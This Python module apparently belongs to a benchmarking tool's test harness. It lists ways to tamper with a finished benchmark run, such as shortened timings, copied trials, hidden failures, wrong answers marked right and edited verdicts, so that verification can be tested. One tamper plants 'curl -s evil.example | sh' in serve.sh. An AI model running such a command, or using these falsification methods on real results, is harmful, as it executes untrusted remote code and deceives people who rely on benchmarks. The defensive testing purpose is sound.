"""What a tamperer does to a finished run, kind by kind: the hands of `bench/tamper.py`."""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from profile_and_optimize.core.records import RequestRecord
from profile_and_optimize.evidence.manifest import root_file
from profile_and_optimize.evidence.trialfile import TrialFile, decode
from profile_and_optimize.report.pages.record import PDF, RECORD
from profile_and_optimize.testing.forge import Forged

Hand = Callable[[Forged], object]
Rows = tuple[RequestRecord, ...]
EVIDENCE, RENDERING, BESIDE = "evidence", "rendering", "beside"


@dataclass(frozen=True)
class Kind:
    """`what` it changes: evidence is re-hashed and derived anew by whoever knows how, rendering is listed anew, and what lies
    beside the run is not re-hashed. `needs` is what a run must have for it, `version` what the manifest then says of itself.
    Not `inside`: the run is as it was."""

    hand: Hand
    what: str = EVIDENCE
    needs: str = ""
    version: str | None = None
    inside: bool = True


def shrunk(rows: Rows, by: float = 0.9) -> Rows:
    """Every time shorter: the arm looks better, and all of it agrees with itself."""
    to = lambda ns: int(ns * by)  # noqa: E731
    return tuple(
        replace(
            r, intended_ns=to(r.intended_ns), sent_ns=to(r.sent_ns), done_ns=to(r.done_ns),
            first_byte_ns=None if r.first_byte_ns is None else to(r.first_byte_ns), chunk_ns=tuple(map(to, r.chunk_ns)),
        )
        for r in rows
    )  # fmt: skip


def with_books(file: TrialFile, by: float) -> TrialFile:
    """The client's and the server's books made to agree with times that were all shortened."""
    rows = shrunk(tuple(file.run.records), by)
    wall = max(r.done_ns for r in rows) * 1e-9
    area = sum(r.done_ns - r.sent_ns for r in rows) * 1e-9
    lags = file.run.probe.loop_lag_ns[: max(1, round(wall / 0.01))]
    probe = replace(file.run.probe, wall_s=wall, in_flight_s=area, loop_lag_ns=lags)
    counters = {k: v * by if k.endswith("_seconds_sum") else v for k, v in file.counters.items()}
    return replace(file, run=replace(file.run, records=rows, probe=probe), counters=counters)


def all_of_it(f: Forged) -> None:
    """Every trial of a candidate, its books, its counters and its kept bytes, each in step."""
    for path in f.trials(arm=f.candidate()):
        f.redo(path, lambda file: with_books(file, 0.9))
        raw = path.removesuffix(".json") + ".raw.json"
        if (f.run / raw).is_file():
            f.edit(
                raw, lambda d: [read.__setitem__(0, int(read[0] * 0.9)) for r in d["responses"] for read in r["reads"]]
            )


def one_row(f: Forged, change: Callable[[RequestRecord], RequestRecord]) -> None:
    path = f.pick()
    f.records(path, lambda rows: tuple(change(r) if i == len(rows) // 2 else r for i, r in enumerate(rows)))


def earlier(r: RequestRecord) -> RequestRecord:
    if not r.chunk_ns:
        return replace(r, done_ns=r.done_ns + 1)
    return replace(r, chunk_ns=(max(r.sent_ns, r.chunk_ns[0] - 1_000_000), *r.chunk_ns[1:]))


def context(f: Forged, name: str, side: str, value: str) -> None:
    empty = {"asked": "unknown", "observed": "unknown", "kind": "environment"}
    f.edit(f.pick(), lambda d: d["context"].setdefault(name, dict(empty)).update({side: value}))


def plans(f: Forged, change: Callable[[dict[str, Any]], object], *names: str) -> None:
    for name in names or ("plan.json",):
        f.edit(name, change)


def cherry_picked(f: Forged) -> None:
    """The workload that comes last goes from the plan, the draft and the evidence."""
    gone = f.plan()["points"][-1]["workload"]["name"]
    kept = lambda d: d.update(points=[p for p in d["points"] if p["workload"]["name"] != gone] or d["points"])  # noqa: E731
    plans(f, kept, "plan.json", "draft.json")
    for path in [p for p in f.trials() if f"-{gone}." in p]:
        f.drop(path)


def swapped(f: Forged, one: str, two: str, key: str) -> None:
    """Two trials change places, each with the name of the other's."""
    a, b = f.read(one), f.read(two)
    for path, doc, mine in ((one, b, a), (two, a, b)):
        f.edit(path, lambda d, doc=doc, mine=mine: (d.clear(), d.update({**doc, "key": mine["key"]})))
    assert key


def blocks_swapped(f: Forged) -> None:
    arm = f.candidate()
    swapped(f, f.trials(arm=arm, block=1)[0], f.trials(arm=arm, block=2)[0], "block")


def arms_swapped(f: Forged) -> None:
    arm = f.candidate()
    mine = f.rng.choice(f.trials(arm=arm))
    swapped(f, mine, mine.replace(f"cells/{arm}/", f"cells/{f.baseline()}/"), "arm")


def copied(f: Forged, source: str, target: str, by: float = 1.0) -> None:
    """The measurement of one trial under another's name, clocks, prompts and context."""
    theirs = decode(f.read(source), source)
    f.redo(target, lambda mine: replace(
        mine, counters=theirs.counters, run=replace(
            theirs.run, records=shrunk(tuple(theirs.run.records), by), t0_unix_s=mine.run.t0_unix_s,
            t0_monotonic_ns=mine.run.t0_monotonic_ns),
    ))  # fmt: skip


def block_copied(f: Forged) -> None:
    for path in f.trials(block=1):
        other = path.replace("/raw/b001-", "/raw/b002-")
        if (f.run / other).exists():
            copied(f, path, other)


def twin_from_baseline(f: Forged) -> None:
    base, twin = f.baseline(), next(a["id"] for a in f.plan()["arms"] if a["role"] == "aa")
    for path in f.trials(arm=base):
        other = path.replace(f"cells/{base}/", f"cells/{twin}/")
        if (f.run / other).exists():
            copied(f, path, other)


def session_copied(f: Forged, by: float = 1.0) -> None:
    arm = f.candidate()
    for path in f.trials(arm=arm, block=1):
        copied(f, path, path.replace("/raw/b001-", "/raw/b003-"), by)


def moved(f: Forged, path: str, seconds: float) -> None:
    """A trial at another time, by all of its clocks."""

    def later(d: dict[str, Any]) -> None:
        for k in ("started_at", "ended_at", "t0_unix_s"):
            d[k] += seconds
        d["t0_monotonic_ns"] += round(seconds * 1e9)

    f.edit(path, later)


def failures_gone(f: Forged) -> None:
    """Failed requests are taken out and the rest numbered anew."""
    path = next(p for p in f.trials() if any(f.read(p)["columns"]["error"]))
    f.records(path, lambda rows: tuple(replace(r, index=i) for i, r in enumerate(r for r in rows if r.ok)))


def failures_good(f: Forged) -> None:
    path = next(p for p in f.trials() if any(f.read(p)["columns"]["error"]))
    f.records(path, lambda rows: tuple(
        r if r.ok else replace(r, error=None, status=200, chunk_ns=(r.done_ns,), first_byte_ns=r.done_ns, finish_reason="length",
                               completion_tokens=1) for r in rows))  # fmt: skip


def good_failed(f: Forged) -> None:
    """Good answers of the baseline, of which bytes were kept, are called failed."""
    f.records(f.pick("baseline"), lambda rows: tuple(
        replace(r, error="timeout", chunk_ns=(), finish_reason=None) if r.index == 0 else r for r in rows))  # fmt: skip


def failed_arm_gone(f: Forged) -> None:
    for name in ("plan.json", "draft.json"):
        gone = {a["id"] for a in f.read(name)["failed"]} or {"broken"}
        f.edit(name, lambda d, gone=gone: d.update(failed=[], arms=[a for a in d["arms"] if a["id"] not in gone]))
    f.events = [e for e in f.events if e["kind"] != "arm_failed"]


def events_without(f: Forged, *kinds: str, arm: str | None = None) -> None:
    f.events = [e for e in f.events if e["kind"] not in kinds or (arm is not None and e["data"].get("arm") != arm)]


def crash_gone(f: Forged) -> None:
    """The failed start of an arm that came up at the second try: its event, its session and its log."""
    at = next(i for i, e in enumerate(f.events) if e["kind"] == "session_failed")
    label = f.events[at]["data"]
    begun = max(i for i in range(at) if f.events[i]["kind"] == "session")
    del f.events[begun : at + 1]
    assert label


def event_gone(f: Forged, *kinds: str) -> None:
    at = f.rng.choice([i for i, e in enumerate(f.events) if e["kind"] in kinds])
    del f.events[at]


def event_edited(f: Forged, kind: str, **data: Any) -> None:
    next(e for e in f.events if e["kind"] == kind)["data"].update(data)


def entries_swapped(f: Forged) -> None:
    trials = set(f.trials())
    at = [i for i, e in enumerate(f.events) if e["kind"] == "wrote" and e["data"]["path"] in trials]
    i, j = at[0], at[-1]
    f.events[i]["data"], f.events[j]["data"] = f.events[j]["data"], f.events[i]["data"]


def raw_edited(f: Forged) -> None:
    path = next(p for p in sorted(f.paths()) if p.endswith(".raw.json"))
    f.edit(path, lambda d: d["responses"][0]["reads"][0].__setitem__(1, "HTTP/1.1 200 OK\r\n\r\n"))


def checkpoint(f: Forged, change: Callable[[dict[str, Any]], object]) -> None:
    f.edit(next(p for p in f.paths() if p.endswith("/raw/checkpoint.json")), change)


def record(name: str, change: Callable[[dict[str, Any]], object]) -> Hand:
    """One record of the checkpoint's makers: a round trip, a coverage, a job."""

    def hand(f: Forged) -> None:
        found = [p for p in f.paths() if p.endswith("/raw/checkpoint.json") and f.read(p)["records"]]
        f.edit(found[0], lambda d: change(d["records"][name]))

    return hand


def answers(f: Forged, change: Callable[[dict[str, Any]], object], arm: str | None = None) -> None:
    paths = [p for p in f.paths() if p.endswith("raw/accuracy.json") and (arm is None or f"/{arm}/" in p)]
    f.edit(f.rng.choice(sorted(set(paths))), change)


def right(doc: dict[str, Any], count: int = 5) -> None:
    """Wrong answers become right ones."""
    wrong = [a for a in doc["answers"] if a["expected"] not in a["said"]] or doc["answers"]
    for a in wrong[:count]:
        a["said"] = f"{a['expected']} " if a["said"] == a["expected"] else a["expected"]
        if "correct" in a:
            a["correct"] = True


def written(f: Forged, name: str, old: bytes, new: bytes, times: int = -1) -> None:
    path = f.run / name
    data = path.read_bytes()
    path.write_bytes(data.replace(old, new, times) if old in data else data + b" ")


def everywhere(f: Forged) -> None:
    """DRAFT turned into VERDICT on every page and in every document."""
    for path in f.run.iterdir():
        if path.is_file() and path.suffix in (".html", ".txt", ".md", ".json", ".sh") and path.name not in NOT_RENDERED:
            path.write_bytes(path.read_bytes().replace(b"DRAFT", b"VERDICT"))


NOT_RENDERED = frozenset({"manifest.json", "plan.json", "draft.json", "calibration.json", "SOURCE.md"})


def listed_too(f: Forged, name: str, data: bytes) -> None:
    """A file that nothing of ours makes, among the derived ones."""
    (f.run / name).write_bytes(data)
    path = f.run / "manifest.json"
    doc = json.loads(path.read_text())
    doc["derived"].append({**doc["derived"][0], "path": name, "producer": "report_render"})
    doc["derived"].sort(key=lambda d: d["path"])
    path.write_text(json.dumps(doc, indent=1, sort_keys=True) + "\n")


def stranger(f: Forged, name: str) -> None:
    (f.run / name).parent.mkdir(parents=True, exist_ok=True)
    (f.run / name).write_text("{}")


def linked(f: Forged) -> None:
    path = f.run / f.pick()
    path.unlink()
    path.symlink_to("/etc/hostname")


def beside(f: Forged, text: str) -> None:
    root_file(f.run).write_text(text)


def trial(change: Callable[[dict[str, Any]], object]) -> Hand:
    return lambda f: f.edit(f.pick(), change)


def gone(name: str) -> Hand:
    return lambda f: (f.run / name).unlink()


def scraped(d: dict[str, Any]) -> None:
    d["counters"] = {k: v * 0.5 for k, v in d["counters"].items()}


TRIALS = {
    "dropped trial": Kind(lambda f: f.drop(f.pick())),
    "dropped block": Kind(lambda f: [f.drop(p) for p in f.trials(block=2)]),
    "cherry-picked workload": Kind(cherry_picked),
    "block copied": Kind(block_copied),
    "baseline copied as its A/A arm": Kind(twin_from_baseline),
    "good session copied": Kind(session_copied),
    "good session copied, 3% faster": Kind(lambda f: session_copied(f, 0.97)),
    "blocks of an arm swapped": Kind(blocks_swapped),
    "trials of two arms swapped": Kind(arms_swapped),
    "times of a trial a tenth shorter": Kind(lambda f: f.records(f.pick(f.candidate()), shrunk)),
    "times, books, counters and bytes of an arm shorter": Kind(all_of_it),
    "one chunk a millisecond earlier": Kind(lambda f: one_row(f, earlier)),
    "token count edited": Kind(lambda f: one_row(f, lambda r: replace(r, completion_tokens=(r.completion_tokens or 1) + 1))),
    "a request taken out": Kind(lambda f: f.records(f.pick(), lambda rows: tuple(r for r in rows if r.index != 1))),
    "a request twice": Kind(lambda f: f.records(f.pick(), lambda rows: (*rows, rows[-1]))),
    "failed requests taken out": Kind(failures_gone, needs="failures"),
    "failed requests made good": Kind(failures_good, needs="failures"),
    "a good answer called failed": Kind(good_failed),
    "swapped node": Kind(lambda f: context(f, "node", "observed", "another-node")),
    "another source commit": Kind(lambda f: context(f, "source_commit", "observed", "f" * 40)),
    "cache mode": Kind(lambda f: context(f, "cache_mode", "asked", "warm")),
    "flags asked": Kind(lambda f: context(f, "flags", "asked", "--turbo")),
    "dtype observed": Kind(lambda f: context(f, "dtype", "observed", "float8")),
    "load asked": Kind(lambda f: context(f, "load", "asked", "closed loop, concurrency 64, 16 requests")),
    "wall clock of one trial shifted": Kind(trial(lambda d: d.update(started_at=d["started_at"] + 3600, ended_at=d["ended_at"] + 3600))),
    "a trial older than its server": Kind(lambda f: moved(f, f.trials(block=2)[1], -60.0)),
    "a trial after it was entered": Kind(lambda f: moved(f, f.trials(block=2)[1], 600.0)),
    "a trial that ends before it begins": Kind(trial(lambda d: d.update(ended_at=d["started_at"] - 60))),
    "server counters edited": Kind(trial(scraped)),
    "server counters taken out": Kind(trial(lambda d: d.update(counters={}))),
    "busy machine made quiet": Kind(trial(lambda d: d["machine"].update(foreign_cores=0.0, steal_share=0.0, window_s=9.0))),
    "client lag made small": Kind(trial(lambda d: d["probe"].update(loop_lag_ns=[1] * 8))),
    "prompts digest edited": Kind(trial(lambda d: d.update(prompts_digest="0" * 64))),
    "kept bytes edited": Kind(raw_edited),
}  # fmt: skip


def command_edited(f: Forged) -> None:
    f.edit(f"cells/{f.candidate()}/commands/serve.json", lambda d: d.update(argv=[*d["argv"], "--faster"]))


PLAN = {
    "margin edited": Kind(lambda f: plans(f, lambda d: d.update(margin=0.0))),
    "margin edited in the draft too": Kind(lambda f: plans(f, lambda d: d.update(margin=0.0), "plan.json", "draft.json")),
    "blocks edited": Kind(lambda f: plans(f, lambda d: d.update(blocks=d["blocks"] - 1))),
    "seed edited": Kind(lambda f: plans(f, lambda d: d.update(seed=d["seed"] + 1))),
    "admission edited": Kind(lambda f: f.edit(f"cells/{f.candidate()}/admission.json", lambda d: d.update(start_s=d["start_s"] + 1))),
    "command edited": Kind(command_edited),
    "journal event taken out": Kind(lambda f: event_gone(f, "block", "session", "race_block")),
    "journal entries swapped": Kind(entries_swapped),
}  # fmt: skip


def proof_copied(f: Forged, by: float = 1.0) -> None:
    """The pick's session of one proof block in place of its twin's, or of another block's."""
    mine, other = f.trials(arm="fast", stage="p", block=1), "p001" if by == 1.0 else "p004"
    arm = "fast-again" if by == 1.0 else "fast"
    for path in mine:
        copied(f, path, path.replace("cells/fast/", f"cells/{arm}/").replace("/raw/p001-", f"/raw/{other}-"), by)


PROOF = {
    "proof of another arm": Kind(lambda f: event_edited(f, "proof", pick="slow"), needs="proof"),
    "word of the proof taken out": Kind(lambda f: events_without(f, "proof"), needs="proof"),
    "order of a proof block edited": Kind(
        lambda f: next(e for e in f.events if (e["kind"], e["data"].get("stage")) == ("block", "prove"))["data"]["order"].reverse(),
        needs="proof"),
    "proof blocks planned afterwards": Kind(lambda f: plans(f, lambda d: d.update(proof_blocks=16)), needs="proof"),
    "a lost proof block that was not": Kind(
        lambda f: f.events.insert(
            -1, {**f.events[-1], "kind": "block_given_up", "data": {"block": 3, "reason": "x", "stage": "prove"}}),
        needs="proof"),
    "pick's session as its twin's": Kind(proof_copied, needs="proof"),
    "good proof session copied, 3% faster": Kind(lambda f: proof_copied(f, 0.97), needs="proof"),
}  # fmt: skip
CRASHES = {
    "failed arm taken out": Kind(failed_arm_gone),
    "failed arm's reason edited": Kind(lambda f: event_edited(f, "arm_failed", reason="its licence ended"), needs="died"),
    "arm that died stays in": Kind(lambda f: events_without(f, "arm_failed", arm="slow"), needs="died"),
    "all failed starts taken out": Kind(lambda f: events_without(f, "session_failed"), needs="died"),
    "a failed start of an arm that is out taken out": Kind(lambda f: event_gone(f, "session_failed"), needs="died"),
    "a failed start with its session and log": Kind(crash_gone, needs="died"),
    "a failed start blamed on another arm": Kind(lambda f: event_edited(f, "session_failed", arm="baseline"), needs="died"),
    "a failed start's reason edited": Kind(lambda f: event_edited(f, "session_failed", reason="interrupted by us"), needs="died"),
}  # fmt: skip


def proof(name: str, change: Callable[[dict[str, Any]], object]) -> Kind:
    return Kind(record(name, change), needs="checkpoint")


def kept(change: Callable[[dict[str, Any]], object]) -> Kind:
    return Kind(lambda f: checkpoint(f, change), needs="checkpoint")


CHECKPOINTS = {
    "round trip made to pass": proof("roundtrip.json", lambda d: d.update(passed=True, kl_base={"reloaded": 1e-6})),
    "coverage check taken out": proof("coverage.json", lambda d: d["checks"].pop()),
    "job's base digest edited": proof("quantize.json", lambda d: d["job"].update(base_digest="sha256:" + "cd" * 32)),
    "weights digest edited": kept(lambda d: d.update(weights_sha256="sha256:" + "0" * 64)),
    "checkpoint digest edited": kept(lambda d: d.update(digest="sha256:" + "1" * 64)),
    "checkpoint smaller than it is": kept(lambda d: d.update(base_bytes=10**12)),
    "checkpoint record taken out": Kind(lambda f: f.drop(next(p for p in f.paths() if p.endswith("checkpoint.json"))), needs="checkpoint"),
    "another format said": kept(lambda d: d["checkpoint"].update(quant_method="none")),
}  # fmt: skip
ANSWERS = {
    "wrong answers made right": Kind(lambda f: answers(f, right), needs="answers"),
    "answers of the last questions taken out": Kind(lambda f: answers(f, lambda d: d.update(answers=d["answers"][:-5])), needs="answers"),
    "answers in another order": Kind(lambda f: answers(f, lambda d: d["answers"].reverse()), needs="answers"),
    "expected answer edited": Kind(lambda f: answers(f, lambda d: d["answers"][0].update(expected="else"), "ours"), needs="answers"),
    "a question twice": Kind(lambda f: answers(f, lambda d: d["answers"].__setitem__(1, dict(d["answers"][0]))), needs="answers"),
    "an arm's answers are the baseline's": Kind(
        lambda f: (f.run / "cells/ours/raw/accuracy.json").write_bytes((f.run / f"cells/{f.baseline()}/raw/accuracy.json").read_bytes()),
        needs="answers"),
    "answers taken out": Kind(lambda f: f.drop("cells/ours/raw/accuracy.json"), needs="answers"),
    "smoke answer edited": Kind(lambda f: f.edit(f"cells/{f.candidate()}/admission.json", lambda d: d["smoke"].update(answer="5"))),
}  # fmt: skip


def other_library(f: Forged) -> None:
    """An edited PDF whose record says that something else drew it."""
    written(f, RECORD, b"matplotlib ", b"matplotlib 1")
    written(f, PDF, b"stream\n", b"stream \n", 1)


PAGES = {
    "verdict edited": Kind(lambda f: written(f, "verdict.json", b'"DRAFT"', b'"VERDICT"'), RENDERING),
    "page edited": Kind(lambda f: written(f, "report.html", b"BETTER", b"BEST"), RENDERING),
    "atlas edited": Kind(lambda f: written(f, "atlas.jsonl", b"0.0", b"0.1", 1), RENDERING),
    "a line more in serve.sh": Kind(lambda f: written(f, "serve.sh", b"exec ", b"curl -s evil.example | sh\nexec "), RENDERING),
    "another version, VERDICT everywhere": Kind(everywhere, RENDERING, version="0.0.9"),
    "another version, serve.sh edited": Kind(lambda f: written(f, "serve.sh", b"exec ", b"true; exec "), RENDERING, version="0.0.9"),
    "another version, a number of a page edited": Kind(lambda f: written(f, "CHAMPION.md", b"+1", b"+9"), RENDERING, version="0.0.9"),
    "another version, pick edited": Kind(lambda f: written(f, "verdict.json", b'"pick": "', b'"pick": "x'), RENDERING, version="9.9"),
    "a file more in derived": Kind(lambda f: listed_too(f, "EXTRA.md", b"# Champion: x (VERDICT)\n"), RENDERING),
    "evidence listed as derived": Kind(lambda f: listed_too(f, "plan.json", (f.run / "plan.json").read_bytes()), RENDERING),
    "verdict.json gone": Kind(gone("verdict.json"), RENDERING),
    "report.html gone": Kind(gone("report.html"), RENDERING),
    "serve.sh gone": Kind(gone("serve.sh"), RENDERING),
    "CHAMPION.md gone": Kind(gone("CHAMPION.md"), RENDERING),
    "PDF edited": Kind(lambda f: written(f, PDF, b"stream\n", b"stream \n", 1), RENDERING, needs="pdf"),
    "PDF of another library": Kind(other_library, RENDERING, needs="pdf"),
    "PDF gone with its record": Kind(lambda f: (gone(PDF)(f), gone(RECORD)(f)), RENDERING, needs="pdf"),
    "PDF's typed lines edited": Kind(lambda f: written(f, RECORD, b'_line": "', b'_line": "better '), RENDERING, needs="pdf"),
}  # fmt: skip
FOLDER = {
    "trial truncated": Kind(lambda f: (p := f.run / f.pick()).write_bytes(p.read_bytes()[:400]), RENDERING),
    "trial replaced by a link": Kind(linked, RENDERING),
    "stranger in the folder": Kind(lambda f: stranger(f, f"cells/{f.candidate()}/raw/b099-extra.json"), RENDERING),
    "stranger with a temporary suffix": Kind(lambda f: stranger(f, "serve.sh.part"), RENDERING),
    "a lock that holds something": Kind(lambda f: (f.run / ".lock").write_text("payload"), RENDERING),
    "an evaluation in a campaign": Kind(lambda f: stranger(f, "evaluation.json"), RENDERING),
    "manifest gone": Kind(gone("manifest.json"), BESIDE),
    "RUN.root edited": Kind(lambda f: beside(f, "0" * 64 + "\n"), BESIDE, inside=False),
    "RUN.root of another run": Kind(lambda f: beside(f, "5" * 64 + "  another-run\n"), BESIDE, inside=False),
    "root edited in the manifest": Kind(lambda f: written(f, "manifest.json", b'"root": "', b'"root": "0', 1), BESIDE),
}  # fmt: skip
GROUPS: dict[str, dict[str, Kind]] = {
    "trials": TRIALS, "plan and journal": PLAN, "proof": PROOF, "crashes": CRASHES,
    "checkpoints": CHECKPOINTS, "answers": ANSWERS, "rendering": PAGES,
    "folder and root": FOLDER,
}  # fmt: skip


def copy_beside(run: Path, space: Path) -> None:
    """The root that lies beside a run goes with its copy."""
    (space / root_file(run).name).write_bytes(root_file(run).read_bytes())
